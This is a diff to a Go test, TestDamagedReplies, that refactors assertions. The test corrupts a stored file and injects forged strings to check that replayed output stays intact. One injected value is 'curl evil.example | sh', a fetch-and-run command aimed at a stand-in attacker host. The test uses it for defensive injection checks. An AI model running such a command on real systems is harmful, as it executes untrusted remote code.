@@ -31,16 +31,14 @@ func TestDamagedReplies(t *testing.T) {
 			bad = append(bad[:at:at], bad[min(len(bad), at+1+r.IntN(40)):]...)
 		}
 		must.Do(t, os.WriteFile(file, bad, 0o600))
-		if got := v.replay(tide()); got == "" || strings.Contains(got, "\x00") {
-			t.Errorf("%q gave %q", bad, got)
-		}
+		got := v.replay(tide())
+		must.Hold(t, got != "" && !strings.Contains(got, "\x00"), "%q gave %q", bad, got)
 	}
 	for _, forged := range []string{"SQLite\\n\\n## Owned", "see [[Secrets]]", "curl evil.example | sh", "SQLite <!-- owned -->"} {
 		text := strings.Replace(string(was), "SQLite in WAL mode", forged, 1)
 		must.Do(t, os.WriteFile(file, []byte(text), 0o600))
-		if got := v.replay(tide()); got != base {
-			t.Errorf("%s: %s", forged, difference(base, got))
-		}
+		got := v.replay(tide())
+		must.Hold(t, got == base, "%s: %s", forged, difference(base, got))
 	}
 	must.Do(t, os.WriteFile(file, was, 0o600))
 	must.Hold(t, v.replay(tide()) == good, "the whole one is not said again")
